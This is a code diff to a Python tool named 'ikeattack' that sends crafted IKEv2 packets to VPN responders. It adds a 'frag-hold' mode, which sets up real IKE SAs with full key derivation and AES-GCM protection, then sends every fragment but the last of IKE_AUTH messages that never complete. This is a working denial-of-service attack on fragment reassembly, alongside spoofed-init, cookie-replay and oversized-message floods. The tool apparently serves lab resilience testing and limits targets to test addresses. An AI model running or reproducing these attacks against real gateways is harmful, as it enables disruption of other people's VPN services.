@@ -12,12 +12,20 @@ Modes:
   cookie-replay  one IKE_SA_INIT, then the same request with the COOKIE the responder demanded,
                  from --ports different source ports (one socket each); counts the answers.
   big-init       IKE_SA_INIT padded with a Vendor ID payload to --size octets.
+  frag-hold      --sas IKE SAs completed for real (x25519, aes256gcm16-prfsha256, fragmentation
+                 announced unless --no-frag-notify), then on each SA fragments 1..N-1 of N of an
+                 IKE_AUTH that never completes (SKF, RFC 7383). Needs python3-cryptography.
+  selftest       checks the key derivation and SK protection against strongSwan's recorded
+                 exchanges (--vectors: the folder with psk-chacha-x25519.json and
+                 psk-gcm-ecp256.json/.pcap).
 
 The IKE_SA_INIT layout follows RFC 7296 sections 3.1-3.10: header, SA (one IKE proposal),
 KE, Nonce, NAT detection notifies.
 """
 
 import argparse
+import hashlib
+import hmac
 import ipaddress
 import json
 import os
@@ -82,17 +90,30 @@ def notify(ntype, data=b""):
     return struct.pack("!BBH", 0, 0, ntype) + data
 
 
-def ike_sa_init(spi_i, nonce, ke, matching=True, cookie=None, vendor=None, frag=False):
-    """One IKE_SA_INIT request. Payloads as (type, body); COOKIE first (section 2.6)."""
+def natd_hash(spi_i, spi_r, addr):
+    """RFC 7296 section 2.23: SHA-1(SPIi | SPIr | IP | port)."""
+    ip, port = addr
+    return hashlib.sha1(struct.pack("!QQ", spi_i, spi_r) + ipaddress.ip_address(ip).packed
+                        + struct.pack("!H", port)).digest()
+
+
+def ike_sa_init(spi_i, nonce, ke, matching=True, cookie=None, vendor=None, frag=False,
+                natd=None):
+    """One IKE_SA_INIT request. Payloads as (type, body); COOKIE first (section 2.6).
+    natd: (our address, the responder's address) for genuine NAT detection hashes."""
     pls = []
     if cookie is not None:
         pls.append((PL_NOTIFY, notify(N_COOKIE, cookie)))
     pls.append((PL_SA, ike_proposal(matching)))
     pls.append((PL_KE, struct.pack("!HH", DH_CURVE25519, 0) + ke))
     pls.append((PL_NONCE, nonce))
-    # NAT detection hashes of nonsense: the responder only concludes "NAT", which is harmless.
-    pls.append((PL_NOTIFY, notify(N_NAT_SRC, os.urandom(20))))
-    pls.append((PL_NOTIFY, notify(N_NAT_DST, os.urandom(20))))
+    if natd is None:
+        # NAT detection hashes of nonsense: the responder only concludes "NAT", which is harmless.
+        src_hash, dst_hash = os.urandom(20), os.urandom(20)
+    else:
+        src_hash, dst_hash = natd_hash(spi_i, 0, natd[0]), natd_hash(spi_i, 0, natd[1])
+    pls.append((PL_NOTIFY, notify(N_NAT_SRC, src_hash)))
+    pls.append((PL_NOTIFY, notify(N_NAT_DST, dst_hash)))
     if frag:
         pls.append((PL_NOTIFY, notify(N_FRAG_SUPPORTED)))
     if vendor is not None:
@@ -306,11 +327,204 @@ def big_init(a):
     return {"sent": sent, "size": a.size, "answers": answers, "elapsed": round(b.elapsed(), 2)}
 
 
+# ------------------------------------------------------------------------------ frag-hold
+PL_IDI, PL_SKF = 35, 53
+IKE_AUTH = 35
+
+
+def payloads(b):
+    """(SPIr, [(type, body)]) of an IKE message's cleartext payload chain."""
+    _, spi_r, nxt, _, _, _, _, _ = struct.unpack("!QQBBBBII", b[:28])
+    out, off = [], 28
+    while nxt != PL_NONE and off + 4 <= len(b):
+        cur = nxt
+        nxt, _, plen = struct.unpack("!BBH", b[off:off + 4])
+        if plen < 4:
+            break
+        out.append((cur, b[off + 4:off + plen]))
+        off += plen
+    return spi_r, out
+
+
+def prf(key, data):
+    return hmac.new(key, data, hashlib.sha256).digest()
+
+
+def prf_plus(key, seed, n):
+    """RFC 7296 section 2.13: T1 | T2 | ..., Tn = prf(K, Tn-1 | S | n)."""
+    out, t, i = b"", b"", 1
+    while len(out) < n:
+        t = prf(key, t + seed + bytes([i]))
+        out += t
+        i += 1
+    return out[:n]
+
+
+def derive(ni, nr, g_ir, spi_i, spi_r):
+    """RFC 7296 section 2.14 for PRF_HMAC_SHA2_256 with a 256-bit AEAD (AES-GCM-16-256 or
+    ChaCha20-Poly1305): no SK_a; SK_e is 32 key octets plus a 4-octet salt (RFC 5282 / 7634)."""
+    skeyseed = prf(ni + nr, g_ir)
+    km = prf_plus(skeyseed, ni + nr + struct.pack("!QQ", spi_i, spi_r), 32 + 36 + 36 + 32 + 32)
+    return {"skeyseed": skeyseed, "sk_d": km[0:32], "sk_ei": km[32:68], "sk_er": km[68:104],
+            "sk_pi": km[104:136], "sk_pr": km[136:168]}
+
+
+def aead_seal(sk_e, aad, plaintext):
+    """RFC 5282: 8-octet explicit IV, nonce = salt | IV, 16-octet ICV; padding length 0."""
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+    iv = os.urandom(8)
+    return iv + AESGCM(sk_e[:32]).encrypt(sk_e[32:] + iv, plaintext + b"\0", aad)
+
+
+def aead_open(sk_e, aad, body):
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+    pt = AESGCM(sk_e[:32]).decrypt(sk_e[32:] + body[:8], body[8:], aad)
+    return pt[:len(pt) - pt[-1] - 1]
+
+
+def skf_message(spi_i, spi_r, msg_id, number, total, first_inner, inner, sk_ei):
+    """One Encrypted Fragment (RFC 7383 section 2.5): the associated data is the IKE header and
+    the SKF payload header with Fragment Number and Total Fragments."""
+    body_len = 8 + len(inner) + 1 + 16
+    plen = 8 + body_len
+    hdr = struct.pack("!QQBBBBII", spi_i, spi_r, PL_SKF, 0x20, IKE_AUTH, FLAG_INITIATOR, msg_id,
+                      28 + plen)
+    skf = struct.pack("!BBHHH", first_inner if number == 1 else PL_NONE, 0, plen, number, total)
+    return hdr + skf + aead_seal(sk_ei, hdr + skf, inner)
+
+
+def init_for_real(sock, target, frag):
+    """IKE_SA_INIT with x25519 to the end (answering a COOKIE demand once); returns
+    (spi_i, spi_r, keys) or raises RuntimeError with the responder's answer."""
+    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
+    from cryptography.hazmat.primitives import serialization
+    priv = X25519PrivateKey.generate()
+    pub = priv.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
+    spi_i, ni = random.getrandbits(64) or 1, os.urandom(32)
+    natd = (sock.getsockname()[:2], target)
+    cookie = None
+    for _ in range(2):
+        sock.sendto(ike_sa_init(spi_i, ni, pub, cookie=cookie, frag=frag, natd=natd), target)
+        b = sock.recv(65535)
+        kind, data = parse_answer(b)
+        if kind == "cookie" and cookie is None:
+            cookie = data
+            continue
+        if kind != "created":
+            raise RuntimeError(f"IKE_SA_INIT answered with {kind}")
+        spi_r, pls = payloads(b)
+        ke = next(d for t, d in pls if t == PL_KE)
+        nr = next(d for t, d in pls if t == PL_NONCE)
+        g_ir = priv.exchange(X25519PublicKey.from_public_bytes(ke[4:]))
+        resp_frag = any(t == PL_NOTIFY and struct.unpack("!H", d[2:4])[0] == N_FRAG_SUPPORTED
+                        for t, d in pls)
+        return spi_i, spi_r, derive(ni, nr, g_ir, spi_i, spi_r), resp_frag
+    raise RuntimeError("COOKIE demanded twice")
+
+
+def frag_hold(a):
+    b = Bounds(a.sas * a.total, a.seconds)
+    if not 2 <= a.total <= 255 or a.sas > 100:
+        sys.exit("ikeattack: --total between 2 and 255, --sas at most 100")
+    fam = socket.AF_INET6 if ":" in a.target else socket.AF_INET
+    target = (a.target, a.port)
+    sas, refused = [], {}
+    for _ in range(a.sas):
+        if b.over():
+            break
+        s = socket.socket(fam, socket.SOCK_DGRAM)
+        s.bind((a.bind or "", 0))
+        s.settimeout(5)
+        try:
+            spi_i, spi_r, keys, resp_frag = init_for_real(s, target, not a.no_frag_notify)
+        except (RuntimeError, socket.timeout, StopIteration) as e:
+            refused[str(e)] = refused.get(str(e), 0) + 1
+            s.close()
+            continue
+        sas.append((s, spi_i, spi_r, keys, resp_frag))
+    sent = 0
+    # Fragment by fragment across all SAs, so that every SA holds its share at the same time.
+    for n in range(1, a.total):
+        for s, spi_i, spi_r, keys, _ in sas:
+            if b.over():
+                break
+            s.sendto(skf_message(spi_i, spi_r, 1, n, a.total, PL_IDI, os.urandom(a.frag_size),
+                                 keys["sk_ei"]), target)
+            sent += 1
+    answers = {}
+    collect([s for s, *_ in sas], answers, 1.0)
+    out = {"sas": len(sas), "refused": refused, "fragments_sent": sent,
+           "responder_fragmentation": sum(1 for *_, f in sas if f), "answers": answers,
+           "elapsed": round(b.elapsed(), 2)}
+    if a.hold > 0:
+        # Keep the sockets (and so the source ports) while the caller measures.
+        time.sleep(min(a.hold, MAX_SECONDS))
+    return out
+
+
+def read_pcap_ike(path):
+    """IKE messages (non-ESP marker removed) of an Ethernet/IPv4 pcap, in order."""
+    data = open(path, "rb").read()
+    end = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
+    off, out = 24, []
+    while off + 16 <= len(data):
+        incl = struct.unpack(end + "I", data[off + 8:off + 12])[0]
+        pkt = data[off + 16:off + 16 + incl]
+        off += 16 + incl
+        if pkt[12:14] != b"\x08\x00" or pkt[23] != 17:
+            continue
+        ip = pkt[14:]
+        udp = ip[(ip[0] & 15) * 4:]
+        sport, dport, ulen = struct.unpack("!HHH", udp[:6])
+        pl = udp[8:ulen]
+        if 4500 in (sport, dport):
+            if pl[:4] != b"\0\0\0\0":
+                continue
+            pl = pl[4:]
+        elif 500 not in (sport, dport):
+            continue
+        out.append(pl)
+    return out
+
+
+def selftest(a):
+    """Our derivation and SK layout against bytes and keys strongSwan 5.9.8 produced."""
+    d = a.vectors
+    j = json.load(open(os.path.join(d, "psk-chacha-x25519.json")))
+    sa = j["ike_sas"][0]
+    h = bytes.fromhex
+    keys = derive(h(sa["nonce_i"]), h(sa["nonce_r"]), h(sa["g_ir"]), int(sa["spi_i"], 16),
+                  int(sa["spi_r"], 16))
+    checks = {k: keys[k].hex() == sa[k] for k in ("skeyseed", "sk_d", "sk_ei", "sk_er", "sk_pi",
+                                                  "sk_pr")}
+    # The IKE_AUTH request of the AES-GCM case, decrypted with the recorded SK_ei and our AAD
+    # (IKE header and SK payload header) and nonce (salt | explicit IV) layout.
+    j = json.load(open(os.path.join(d, "psk-gcm-ecp256.json")))
+    sa = j["ike_sas"][0]
+    keys = derive(h(sa["nonce_i"]), h(sa["nonce_r"]), h(sa["g_ir"]), int(sa["spi_i"], 16),
+                  int(sa["spi_r"], 16))
+    checks["gcm_keys"] = keys["sk_ei"].hex() == sa["sk_ei"]
+    auth = [m for m in read_pcap_ike(os.path.join(d, "psk-gcm-ecp256.pcap"))
+            if m[18] == IKE_AUTH and m[19] & FLAG_INITIATOR][0]
+    plen = struct.unpack("!H", auth[30:32])[0]
+    inner = aead_open(keys["sk_ei"], auth[:32], auth[32:28 + plen])
+    checks["gcm_sk_decrypt"] = inner[4:8] == b"\x02\0\0\0" and b"west.example" in inner
+    # Our SKF decrypts with the same rules (associated data up to Total Fragments).
+    m = skf_message(1, 2, 1, 1, 64, PL_IDI, b"x" * 100, keys["sk_ei"])
+    checks["skf_roundtrip"] = aead_open(keys["sk_ei"], m[:36], m[36:]) == b"x" * 100
+    ok = all(checks.values())
+    if not ok:
+        print(json.dumps(checks), file=sys.stderr)
+        sys.exit(1)
+    return {"checks": checks}
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
-    p.add_argument("mode", choices=["spoof-init", "cookie-replay", "big-init"])
-    p.add_argument("--target", required=True, help="responder address")
+    p.add_argument("mode", choices=["spoof-init", "cookie-replay", "big-init", "frag-hold",
+                                    "selftest"])
+    p.add_argument("--target", default="192.0.2.2", help="responder address")
     p.add_argument("--port", type=int, default=500)
     p.add_argument("--bind", help="local address for unspoofed modes")
     p.add_argument("--count", type=int, default=1000, help="packets to send (at most)")
@@ -323,10 +537,19 @@ def main():
     p.add_argument("--rate", type=float, default=0, help="packets per second (0: as fast as possible)")
     p.add_argument("--ports", type=int, default=3000, help="cookie-replay: source ports")
     p.add_argument("--size", type=int, default=60000, help="big-init: message size in octets")
+    p.add_argument("--sas", type=int, default=10, help="frag-hold: IKE SAs")
+    p.add_argument("--total", type=int, default=64, help="frag-hold: Total Fragments (1..N-1 sent)")
+    p.add_argument("--frag-size", type=int, default=1000, help="frag-hold: octets per fragment")
+    p.add_argument("--no-frag-notify", action="store_true",
+                   help="frag-hold: do not announce IKEV2_FRAGMENTATION_SUPPORTED")
+    p.add_argument("--hold", type=float, default=0, help="frag-hold: keep the SAs' ports this long")
+    p.add_argument("--vectors", default="/work/shared/testdata/strongswan-5.9.8",
+                   help="selftest: strongSwan test data folder")
     a = p.parse_args()
     if not allowed(a.target):
         sys.exit(f"ikeattack: {a.target} is not a test address")
-    mode = {"spoof-init": spoof_init, "cookie-replay": cookie_replay, "big-init": big_init}
+    mode = {"spoof-init": spoof_init, "cookie-replay": cookie_replay, "big-init": big_init,
+            "frag-hold": frag_hold, "selftest": selftest}
     out = mode[a.mode](a)
     out["mode"] = a.mode
     print(json.dumps(out, sort_keys=True))
